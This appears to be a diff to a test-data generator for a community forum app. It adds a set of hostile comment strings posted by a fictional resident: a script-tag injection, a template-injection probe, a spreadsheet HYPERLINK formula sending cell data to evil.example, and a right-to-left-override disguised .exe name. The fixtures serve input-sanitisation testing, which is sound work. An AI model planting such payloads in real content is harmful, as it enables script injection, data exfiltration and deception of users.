@@ -18,6 +18,12 @@ if TYPE_CHECKING:
 
 SCRIPTED_NIGHTS = 5
 DEEP_LEVELS = 14
+HOSTILE_TEXTS = (
+    "<script>alert('council')</script> & <b>bold</b> &lt;i&gt; {{ 7*7 }}",
+    '=HYPERLINK("http://evil.example/?q="&A1,"Click here")',
+    "Pay here: \u202egnp.exe\u202c \u200b\u200bzero width\ufeff",
+    "line one\r\nline two\n\n\tand a tab",
+)
 RENAMED_HANDLE = "readinglibrary.laspalmasverdes.test"
 
 # account key: days on which it says nothing and nobody answers it, first and last
@@ -149,6 +155,10 @@ def _comments(ledger: Ledger, seed: int) -> None:
         else:
             parent = daily.answer(ledger, RESIDENT_BY_KEY[talkers[level // 2 % 2]], parent, at, rng)
     ledger.note("deepest_comment", parent)
+
+    for text in HOSTILE_TEXTS:
+        at = ledger.moment(2, 19, len(ledger.story.get("hostile_text", ())))
+        ledger.note("hostile_text", ledger.post(_resident("arvid-berg"), text, at, under=hot))
 
     part = ""
     for number, text in enumerate(("What is in Measure M:", "It pays for streets.", "It ends in 2034."), 1):
